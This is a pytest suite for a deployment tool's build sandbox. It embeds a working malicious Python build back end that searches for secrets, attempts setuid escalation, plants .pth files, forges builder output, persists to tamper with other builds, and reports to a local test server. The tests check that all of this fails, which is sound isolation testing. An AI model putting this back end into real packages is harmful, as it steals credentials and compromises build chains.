"""A hostile back end and a hostile source distribution reach nothing but their own wheel."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import tarfile
import urllib.parse
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Baker
from tests.containers.laptop import SESSION, Laptop, write
from tests.containers.package_index import index_of, serving
from tests.containers.workshop import Workshop

MARK = f"marked-{SESSION}"

# A back end that takes what it can get, and reports it in its wheel and to the package index.
HOSTILE = """\
import json, os, shutil, signal, socket, stat, subprocess, sys, time
import urllib.parse, warnings, zipfile

ADDRESS = {address!r}
NAME, VERSION = {name!r}, "1.0"
# as two words, so that this file is not among those that have it
MARK = "mark" + {mark!r}

def tried(gain, *words, **options):
    try:
        return gain(*words, **options)
    except Exception as problem:
        return None

def connects():
    socket.create_connection(ADDRESS, 5).close()
    return True

def stains():
    '''Write to every folder that lets it.'''
    for folder, folders, _ in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "dev")]
        tried(lambda: open(os.path.join(folder, "stain.pth"), "w").write("import stained"))
    for place in ("/application", "/wheelhouse", "/cache", "/sandbox", sys.prefix):
        tried(lambda: open(os.path.join(place, "stain.pth"), "w").write("import stained"))

def reads():
    '''Return the files that have the mark, and how many could be read.'''
    found, number = [], 0
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys")]
        for name in names:
            path = os.path.join(folder, name)
            if not os.path.isfile(path):
                continue
            data = tried(lambda: open(path, "rb").read(1 << 16)) or b""
            number += bool(data)
            if MARK.encode() in data:
                found.append(path)
    if tried(os.listdir, "/proc/1/root"):
        found.append("what another process sees")
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            data = tried(lambda: open(f"/proc/{{process}}/{{name}}", "rb").read()) or b""
            if MARK.encode() in data:
                found.append(f"{{name}} of {{process}}")
    return found, number

def becomes_root():
    shell = os.path.abspath("shell")
    shutil.copy("/bin/dash", shell)
    os.chmod(shell, 0o6755)
    for words in ([shell, "-p", "-c", "id -u"], ["su", "-c", "id -u"]):
        if tried(subprocess.check_output, words, stderr=subprocess.DEVNULL) == b"0\\n":
            return True
    return tried(os.setuid, 0) is None and os.geteuid() == 0

def forges():
    '''Write what the laptop reads to whatever could be the standard output of the builder.'''
    lines = "".join(json.dumps(each) + chr(10) for each in (
        dict(event="sources", names=["idna"]),
        dict(event="built", sums=dict(idna="0" * 64)),
        dict(event="lock", text="forged"),
        dict(event="result", outcome="done", add=["forged"], find=[]),
    ))
    for process in (1, os.getppid(), "self"):
        for number in (1, 2):
            tried(lambda: open(f"/proc/{{process}}/fd/{{number}}", "w").write(lines))
    tried(lambda: os.write(1, lines.encode()))

def stays():
    '''Leave a process that goes on to change what others build.'''
    if os.fork():
        return
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for _ in range(600):
        for top in ("/tmp/sandbox", "/tmp/wheels"):
            for name in ("sources/good-1.0/NAME", "sources/good-1.0/good.py", "application/NAME"):
                tried(lambda: open(f"{{top}}/{{name}}", "w").write("stained 1.0"))
        time.sleep(0.05)
    os._exit(0)

def status(name):
    with open("/proc/self/status") as file:
        return next(line.split()[1] for line in file if line.startswith(name + ":"))

def attack(when):
    found, number = reads()
    gained = dict(
        who=NAME, when=when, uid=os.getuid(), found=found, number=number, network=tried(connects),
        root=becomes_root(), capabilities=int(status("CapEff"), 16),
        privileges=status("NoNewPrivs"),
    )
    stains()
    forges()
    stays()
    if gained["network"]:
        with socket.create_connection(ADDRESS) as to:
            text = urllib.parse.quote(json.dumps(gained))
            to.sendall(f"GET /report/{{text}} HTTP/1.0\\r\\n\\r\\n".encode())
            to.recv(100)
    return gained

def get_requires_for_build_wheel(settings=None):
    attack("requires")
    return []

def build_wheel(folder, settings=None, metadata=None):
    warnings.warn("advice to the authors")
    wheel = f"{{NAME}}-{{VERSION}}-py3-none-any.whl"
    info = f"{{NAME}}-{{VERSION}}.dist-info"
    with zipfile.ZipFile(os.path.join(folder, wheel), "w") as archive:
        archive.writestr(f"{{NAME}}.json", json.dumps(attack("wheel")))
        archive.writestr(f"{{NAME}}.py", "def main(): print('here')")
        archive.writestr(
            f"{{info}}/METADATA",
            f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: {{VERSION}}\\n",
        )
        archive.writestr(
            f"{{info}}/WHEEL",
            "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        )
        archive.writestr(
            f"{{info}}/entry_points.txt", f"[console_scripts]\\nrun-it = {{NAME}}:main\\n"
        )
        archive.writestr(f"{{info}}/RECORD", "")
    return wheel
"""
# A back end that takes its time, and packs what is in its folder by then.
GOOD = """\
import os, time, zipfile

def build_wheel(folder, settings=None, metadata=None):
    time.sleep(2)
    wheel, info = "good-1.0-py3-none-any.whl", "good-1.0.dist-info"
    with zipfile.ZipFile(os.path.join(folder, wheel), "w") as archive:
        archive.writestr("good.py", open("good.py").read())
        archive.writestr("tree.txt", chr(10).join(sorted(os.listdir())))
        archive.writestr(
            f"{info}/METADATA", "Metadata-Version: 2.1\\nName: good\\nVersion: 1.0\\n"
        )
        archive.writestr(
            f"{info}/WHEEL",
            "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        )
        archive.writestr(f"{info}/RECORD", "")
    return wheel
"""
IN_TREE = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n'


def sdist(name: str, back_end: str, **files: str) -> dict[str, bytes]:
    """Return a source distribution with its back end in it, by its file name."""
    files = {"pyproject.toml": IN_TREE, "own.py": back_end, "NAME": f"{name} 1.0", **files}
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        for path, text in files.items():
            member = tarfile.TarInfo(f"{name}-1.0/{path}")
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
    return {f"{name}-1.0.tar.gz": data.getvalue()}


@dataclass
class Attack:
    """A project whose own back end and one of whose dependencies are hostile."""

    workshop: Workshop
    reports: list[dict[str, Any]] = field(default_factory=list)

    def reported(self) -> list[dict[str, Any]]:
        """Return what the back ends gained, by the reports in their wheels."""
        found = list(self.reports)
        for name in ("app/hostile", "deps/evil"):
            (wheel,) = self.workshop.wheelhouse.glob(f"{name}-*.whl")
            with zipfile.ZipFile(wheel) as archive:
                (report,) = (each for each in archive.namelist() if each.endswith(".json"))
                found.append(json.loads(archive.read(report)))
        return found


@pytest.fixture(scope="module", params=[0, 1000], ids=["of root", "of a user"])
def attack(
    request: pytest.FixtureRequest,
    generate: Baker,
    laptop: Laptop,
    gateway: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Attack]:
    """The lock and the image of a hostile project, whose files belong to somebody."""
    owner = int(request.param)
    name = f"hostile-{owner}-{SESSION}"
    project = generate(
        project=name, app="existing", python="CPython", command="run-it", native_deps=" "
    )
    files: dict[str, bytes] = {}
    reports: list[dict[str, Any]] = []

    class Index(index_of(files)):  # type: ignore[misc]
        def do_GET(self) -> None:
            """Keep a report, or answer as a package index does."""
            if self.path.startswith("/report/"):
                reports.append(json.loads(urllib.parse.unquote(self.path[len("/report/") :])))
                self.send_error(404)
            else:
                super().do_GET()

    variables = {"DEPLOY_CACHE": f"hostile-{owner}-{SESSION}"}
    workshop = Workshop(laptop, project, name, tmp_path_factory.mktemp("logs"), variables)
    with serving(ThreadingHTTPServer((gateway, 0), Index)) as port:
        address = (gateway, port)
        evil, hostile = (
            HOSTILE.format(address=address, name=each, mark=MARK.removeprefix("mark"))
            for each in ("evil", "hostile")
        )
        files.update(sdist("evil", evil, **{"long.cpp": "int x;\n" * 9999}))
        files.update(sdist("good", GOOD, **{"good.py": "GOOD = True\n"}))
        write(
            project.path,
            {
                "pyproject.toml": IN_TREE
                + '[project]\nname = "hostile"\nversion = "1.0"\n'
                + 'dependencies = ["evil", "good", "idna"]\n',
                "own.py": "",
                "deploy/run.env": f"PASSWORD={MARK}\n",
                ".env": f"PASSWORD={MARK}\n",
                ".git/marked": MARK,
                "deploy/secret.txt": MARK,
            },
        )
        (project.path / "own.py").write_text(hostile)
        (project.path / "wheelhouse" / "python3").mkdir(parents=True)  # as its owner's make does
        subprocess.run(["chown", "-R", f"{owner}:{owner}", project.path], check=True)
        workshop = Workshop(
            laptop,
            project,
            name,
            workshop.logs,
            {
                **variables,
                "PIP_EXTRA_INDEX_URL": f"http://ann:{MARK}@{gateway}:{port}/simple/",
                "PIP_TRUSTED_HOST": gateway,
            },
        )
        # something of another project in the store
        mount = f"type=volume,source={variables['DEPLOY_CACHE']},target=/cache"
        script = f"chmod 1777 /cache && mkdir -m 777 /cache/other && echo {MARK} >/cache/other/file"
        laptop.docker("run", "--rm", "--mount", mount, "debian:trixie-slim", "sh", "-c", script)
        workshop.make("lock")
        assert {each["who"] for each in reports} >= {"evil"}, "its code ran, with a network"
        yield Attack(workshop, reports)
    laptop.engine.succeeds("docker", "volume", "rm", variables["DEPLOY_CACHE"])


def marked(place: Path) -> list[str]:
    """Return what an attack has left in a folder."""
    return [str(path) for path in place.rglob("stain*")]


def test_code_of_a_lock_gains_nothing_but_the_package_index(attack: Attack) -> None:
    """pip runs it while it resolves: neither root nor the project nor the store is there."""
    assert attack.reports
    for report in attack.reports:
        assert report["number"] > 1000, "it looked"
        assert report["network"], "the package index is needed"
        # pip's own settings are needed too; nothing else is found
        assert not [path for path in report["found"] if not path.startswith("environ")]
        assert (report["root"], report["capabilities"], report["privileges"]) == (False, 0, "1")
        assert report["uid"] >= 61200
    assert not marked(attack.workshop.project.path)
    assert "forged" not in attack.workshop.project.read("requirements.txt")


def test_code_of_a_build_gains_nothing(attack: Attack) -> None:
    """Neither root, nor the network, nor a byte of the project's other files or of the store."""
    workshop = attack.workshop
    said = workshop.make("wheels")
    built = attack.reported()[len(attack.reports) :]
    assert {(report["who"], report["when"]) for report in built} == {
        ("hostile", "wheel"),
        ("evil", "wheel"),
    }
    for report in built:
        assert report["number"] > 1000, "it looked"
        assert report["found"] == []
        assert report["network"] is None
        assert (report["root"], report["capabilities"], report["privileges"]) == (False, 0, "1")
        assert report["uid"] >= 61200
    assert len({report["uid"] for report in built}) == 2
    assert "forged" not in said
    assert "advice" not in said
    assert MARK not in said


def test_code_of_a_build_writes_nothing(attack: Attack) -> None:
    """Not into the wheelhouse, the project, the store, or what another package is built from."""
    workshop = attack.workshop
    workshop.make("wheels")
    assert not marked(workshop.project.path)
    setuid = [
        path
        for path in workshop.project.path.rglob("*")
        if path.is_file() and path.stat().st_mode & 0o6000
    ]
    assert setuid == []
    mount = f"type=volume,source={workshop.variables['DEPLOY_CACHE']},target=/cache"
    script = "find /cache -name 'stain*' -o -name '*.json'; find /cache -type f | wc -l"
    *stains, number = workshop.laptop.docker(
        "run", "--rm", "--mount", mount, "debian:trixie-slim", "sh", "-c", script
    ).split()
    assert (stains, int(number) > 3) == ([], True)
    (wheel,) = workshop.wheelhouse.glob("deps/good-*.whl")
    with zipfile.ZipFile(wheel) as archive:
        assert archive.read("good.py") == b"GOOD = True\n"
        tree = {*archive.read("tree.txt").decode().split()} - {"__pycache__"}
    assert tree == {"NAME", "good.py", "own.py", "pyproject.toml"}
    owner = workshop.project.path.stat().st_uid
    found = {path.stat().st_uid for path in (workshop.wheelhouse / "deps").iterdir()}
    assert found == {owner}


def test_events_of_the_builder_cannot_be_forged(attack: Attack) -> None:
    """The image's build compares the wheels with the lock and with what the builder has built."""
    workshop = attack.workshop
    workshop.make("image")
    built = workshop.project.read(".deploy/pins/built.txt")
    assert "idna" not in built
    for name in ("evil", "good"):
        (wheel,) = workshop.wheelhouse.glob(f"deps/{name}-*.whl")
        assert f"{name}==1.0 --hash=sha256:{sha256(wheel)}\n" in built
    assert workshop.answer == "here"


def test_the_builder_by_hand_gives_no_build_root_or_the_wheelhouse(
    attack: Attack, tmp_path: Path
) -> None:
    """Its sandbox is a process of the same container; jobs have accounts of their own there."""
    workshop = attack.workshop
    wheelhouse = tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    names = ("PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST")
    settings = [f"--env={name}={workshop.variables[name]}" for name in names]
    folders = [f"--volume={workshop.project.path}:/application:ro"]
    folders += [f"--volume={wheelhouse}:/wheelhouse"]
    folders += [f"--volume={workshop.project.path}/deploy/ca:/ca:ro"]
    image = f"{workshop.name}-builder:tools"
    workshop.laptop.docker("run", "--rm", *settings, *folders, image)
    assert not marked(tmp_path)
    (wheel,) = wheelhouse.glob("app/hostile-*.whl")
    with zipfile.ZipFile(wheel) as archive:
        report = json.loads(archive.read("hostile.json"))
    assert (report["root"], report["capabilities"], report["privileges"]) == (False, 0, "1")
    assert report["uid"] >= 61200
    assert not [path for path in report["found"] if path.startswith(("environ", "/cache"))]


def sha256(path: Path) -> str:
    """Return a file's SHA-256."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_build_has_a_network_if_its_owner_says_so(attack: Attack) -> None:
    """The same code then reaches the package index, but not its password."""
    workshop = attack.workshop
    workshop.edit("own.py", "NAME, VERSION", "#\nNAME, VERSION")
    workshop.make("wheels", "BUILD_NETWORK=yes")
    report = next(each for each in attack.reported()[::-1] if each["who"] == "hostile")
    assert report["network"] is True
    assert report["found"] == []
